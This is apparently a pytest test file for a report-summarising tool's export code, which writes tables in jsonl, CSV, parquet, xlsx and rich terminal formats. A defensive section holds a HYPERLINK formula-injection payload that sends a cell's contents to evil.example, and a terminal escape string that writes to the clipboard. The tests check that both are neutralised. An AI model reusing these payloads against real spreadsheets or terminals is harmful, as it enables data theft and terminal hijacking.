"""Exports: what a program reads back (jsonl, csv, parquet) and what a person sees (xlsx, rich)."""

import io
import json

import pandas as pd
import pytest
from rich.console import Console

from summarylab.export import (
    ExportError, format_for, render_table, write_sheets, write_table,
)
from summarylab.model import CHINESE_HEADERS, FACT_COLUMNS


@pytest.fixture
def facts():
    """Two facts of the sample report, with a missing value and a numpy-typed column."""
    return pd.DataFrame({
        "fact_id": pd.Series([1, 2], dtype="int64"),
        "surface": ["近4.5万元", "1000多人"],
        "value": [4.5, 1000.0],
        "value_max": [float("nan"), None],
        "base_value": [45000.0, 1000.0],
        "indicator": ["儿童之家建设资金", "妇女运动会参赛人数"],
        "targets": [[3, 4], []],
    })


@pytest.fixture
def check():
    return pd.DataFrame({
        "item_id": ["4.1", "4.2", "4.3", "4.4"],
        "commitment": ["继续实施“春蕾计划”", "举办基层女干部培训班",
                       "城镇新增就业1100万人以上", "到2025年建成儿童之家100所"],
        "verdict": ["delivered", "partial", "not_found", "not_due"],
        "score": [0.92, 0.5, float("nan"), None],
        "actual": [1314.0, None, 4.5, None],
    })


def test_format_comes_from_the_suffix_unless_given():
    assert format_for("out/facts.XLSX") == "xlsx"
    assert format_for("facts.jsonl") == "jsonl"
    assert format_for("facts.csv", "parquet") == "parquet"
    with pytest.raises(ExportError, match="suffix"):
        format_for("facts.txt")
    with pytest.raises(ExportError, match="unknown format"):
        format_for("facts.csv", "yaml")


def test_jsonl_is_one_utf8_object_per_row_with_exactly_the_columns(facts):
    out = io.StringIO()
    write_table(facts, fmt="jsonl", stream=out)
    lines = out.getvalue().splitlines()
    assert len(lines) == 2
    assert "近4.5万元" in lines[0]  # not ASCII-escaped
    first, second = (json.loads(line) for line in lines)
    assert list(first) == list(facts.columns)
    assert first == {
        "fact_id": 1, "surface": "近4.5万元", "value": 4.5, "value_max": None,
        "base_value": 45000.0, "indicator": "儿童之家建设资金", "targets": [3, 4],
    }
    assert second["value_max"] is None and second["targets"] == []


def test_jsonl_file_equals_the_stream(facts, tmp_path):
    out = io.StringIO()
    write_table(facts, fmt="jsonl", stream=out)
    write_table(facts, tmp_path / "facts.jsonl")
    assert (tmp_path / "facts.jsonl").read_text(encoding="utf-8") == out.getvalue()


def test_csv_has_a_bom_for_excel_and_reads_back(facts, tmp_path):
    path = tmp_path / "facts.csv"
    write_table(facts, path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert list(back.columns) == list(facts.columns)
    assert back["surface"].tolist() == ["近4.5万元", "1000多人"]
    assert json.loads(back["targets"][0]) == [3, 4]
    assert pd.isna(back["value_max"]).all()


def test_parquet_keeps_list_columns(facts, tmp_path):
    path = tmp_path / "facts.parquet"
    write_table(facts, path)
    back = pd.read_parquet(path)
    assert list(back.columns) == list(facts.columns)
    assert [list(v) for v in back["targets"]] == [[3, 4], []]
    assert back["indicator"].tolist() == facts["indicator"].tolist()


def test_binary_formats_refuse_a_stream(facts):
    with pytest.raises(ExportError, match="-o PATH"):
        write_table(facts, fmt="xlsx", stream=io.StringIO())
    with pytest.raises(ExportError, match="exactly one"):
        write_table(facts)


def test_xlsx_has_chinese_headers_a_frozen_row_and_cjk_widths(facts, tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "facts.xlsx"
    write_table(facts, path)
    ws = load_workbook(path).active
    assert ws.title == "数值事实"   # named after what it holds, never "Sheet1"
    headers = [c.value for c in ws[1]]
    assert headers == [CHINESE_HEADERS[c] for c in facts.columns]
    assert headers[:3] == ["事实编号", "原文", "数值"]
    assert ws.freeze_panes == "A2"
    assert ws["B2"].value == "近4.5万元" and ws["G2"].value == "3；4"
    # 妇女运动会参赛人数 is 9 CJK characters: 18 display cells, plus padding.
    assert ws.column_dimensions["F"].width == 20
    assert ws.column_dimensions["A"].width == 10  # 事实编号: 4 CJK = 8 cells


def test_the_xlsx_sheet_can_be_named(facts, tmp_path):
    from openpyxl import load_workbook

    write_table(facts, tmp_path / "facts.xlsx", sheet="数值事实")
    assert load_workbook(tmp_path / "facts.xlsx").sheetnames == ["数值事实"]


def test_every_fact_column_has_a_chinese_header():
    assert all(c in CHINESE_HEADERS for c in FACT_COLUMNS)


def test_write_sheets_makes_one_sheet_per_table_with_verdict_fills(check, facts, tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "report.xlsx"
    write_sheets({"计划核对": check, "事实": facts}, path, chinese_labels=True)
    wb = load_workbook(path)
    assert wb.sheetnames == ["计划核对", "事实"]
    ws = wb["计划核对"]
    assert [c.value for c in ws[1]] == ["计划条目", "承诺事项", "结论", "证据强度", "实际值"]
    assert [ws.cell(row=r, column=3).value for r in range(2, 6)] == [
        "已完成", "部分完成", "未见成效", "未到期"]
    assert ws["C2"].fill.start_color.rgb.endswith("C6EFCE")
    assert ws["C4"].fill.start_color.rgb.endswith("FFC7CE")


def test_rich_table_pins_what_a_person_sees(check):
    console = Console(width=100, color_system=None, record=True)
    console.print(render_table(check, title="计划核对"))
    assert console.export_text() == (
        "                              计划核对                              \n"
        "┏━━━━━━━━━┳━━━━━━━━━━━━━━━━━━━━━━━━━━━┳━━━━━━━━━━━┳━━━━━━━┳━━━━━━━━┓\n"
        "┃ item_id ┃ commitment                ┃ verdict   ┃ score ┃ actual ┃\n"
        "┡━━━━━━━━━╇━━━━━━━━━━━━━━━━━━━━━━━━━━━╇━━━━━━━━━━━╇━━━━━━━╇━━━━━━━━┩\n"
        "│ 4.1     │ 继续实施“春蕾计划”        │ delivered │  0.92 │   1314 │\n"
        "│ 4.2     │ 举办基层女干部培训班      │ partial   │   0.5 │        │\n"
        "│ 4.3     │ 城镇新增就业1100万人以上  │ not_found │       │    4.5 │\n"
        "│ 4.4     │ 到2025年建成儿童之家100所 │ not_due   │       │        │\n"
        "└─────────┴───────────────────────────┴───────────┴───────┴────────┘\n"
    )


def test_rich_table_colours_the_verdicts(check):
    console = Console(width=100, color_system="standard", force_terminal=True, record=True)
    console.print(render_table(check, columns=["verdict"]))
    ansi = console.export_text(styles=True)
    assert "\x1b[32mdelivered" in ansi      # green
    assert "\x1b[33mpartial" in ansi        # yellow
    assert "\x1b[31mnot_found" in ansi      # red
    assert "\x1b[2mnot_due" in ansi         # dim


def test_rich_table_shows_chosen_columns_and_joins_lists(facts):
    console = Console(width=100, color_system=None, record=True)
    console.print(render_table(facts, columns=["surface", "targets"]))
    text = console.export_text()
    assert "近4.5万元" in text and "3；4" in text and "indicator" not in text
    with pytest.raises(ExportError, match="no such column: nope"):
        render_table(facts, columns=["nope"])


# --- one rule for coded values -------------------------------------------------

def test_xlsx_shows_coded_values_in_chinese_and_data_formats_keep_the_codes(tmp_path):
    from openpyxl import load_workbook

    df = pd.DataFrame({"surface": ["1000多人", "10%"], "approx": ["more_than", "exact"],
                       "role": ["actual", "target"], "kind": ["count", "percent"],
                       "aspect": ["level", "increase"]})
    write_table(df, tmp_path / "f.xlsx")
    ws = load_workbook(tmp_path / "f.xlsx").active
    assert [c.value for c in ws[2]][1:] == ["多于", "实际", "数量", "水平"]
    assert [c.value for c in ws[3]][1:] == ["精确", "目标", "百分比", "增加"]
    out = io.StringIO()
    write_table(df, fmt="jsonl", stream=out)
    assert json.loads(out.getvalue().splitlines()[0])["approx"] == "more_than"
    out = io.StringIO()
    write_table(df, fmt="csv", stream=out)
    assert "more_than,actual,count,level" in out.getvalue()


# --- hostile text in exports -----------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?d="&S3,"点击查看详情")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_sentence_that_starts_like_a_formula_is_text_in_csv(start):
    df = pd.DataFrame({"sentence": [start + "SUM(A1:A9)，投入30万元。"], "value": [-3.0]})
    out = io.StringIO()
    write_table(df, fmt="csv", stream=out)
    import csv

    [header, (sentence, value)] = list(csv.reader(io.StringIO(out.getvalue().lstrip("\ufeff"))))
    assert not sentence.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert sentence.endswith("SUM(A1:A9)，投入30万元。")
    assert value == "-3.0"   # numbers are numbers: no quote before a minus sign


def test_a_formula_in_document_text_is_never_a_formula_cell_in_xlsx(tmp_path):
    from openpyxl import load_workbook

    df = pd.DataFrame({"sentence": [FORMULA, "@SUM(1+1)", "+1+1"], "value": [1.0, 2.0, -3.0]})
    write_table(df, tmp_path / "f.xlsx")
    ws = load_workbook(tmp_path / "f.xlsx").active
    cells = [ws.cell(row=r, column=1) for r in (2, 3, 4)]
    assert all(c.data_type == "s" for c in cells)
    assert [c.value for c in cells] == ["'" + FORMULA, "'@SUM(1+1)", "'+1+1"]
    assert ws.cell(row=4, column=2).value == -3


def test_xml_illegal_characters_are_dropped_from_xlsx(tmp_path):
    from openpyxl import load_workbook

    df = pd.DataFrame({"sentence": ["投入\uffff30万元\x0b，\ufffe完成\x00。"]})
    write_table(df, tmp_path / "f.xlsx")
    assert load_workbook(tmp_path / "f.xlsx").active["A2"].value == "投入30万元，完成。"


def test_a_failing_export_leaves_the_old_file_untouched(tmp_path, monkeypatch):
    import summarylab.export as export

    path = tmp_path / "facts.xlsx"
    path.write_bytes(b"the official's workbook")

    def broken(*_a, **_k):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export, "_xlsx_value", broken)
    with pytest.raises(OSError):
        write_table(pd.DataFrame({"sentence": ["投入30万元。"]}), path)
    assert path.read_bytes() == b"the official's workbook"
    assert [p.name for p in tmp_path.iterdir()] == ["facts.xlsx"]   # no temporary left


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet", "xlsx"])
def test_every_format_replaces_the_file_whole(fmt, tmp_path):
    path = tmp_path / f"out.{fmt}"
    path.write_bytes(b"old")
    write_table(pd.DataFrame({"indicator": ["培训人数"], "value": [400.0]}), path)
    assert path.read_bytes() != b"old" and [p.name for p in tmp_path.iterdir()] == [path.name]


def test_terminal_escapes_in_table_cells_are_made_visible():
    df = pd.DataFrame({"title": ["标题\x1b]52;c;ZXZpbA==\x07正文\x9b31m"]})
    console = Console(width=100, color_system=None, record=True)
    console.print(render_table(df))
    text = console.export_text()
    assert "\x1b" not in text and "\x9b" not in text and "\x07" not in text
    assert "标题␛]52;c;ZXZpbA==␇正文" in text


def test_jsonl_escapes_c1_controls_and_stays_json():
    out = io.StringIO()
    write_table(pd.DataFrame({"s": ["a\x9b31mb\x1bc"]}), fmt="jsonl", stream=out)
    line = out.getvalue()
    assert "\x9b" not in line and "\x1b" not in line
    assert json.loads(line) == {"s": "a\x9b31mb\x1bc"}
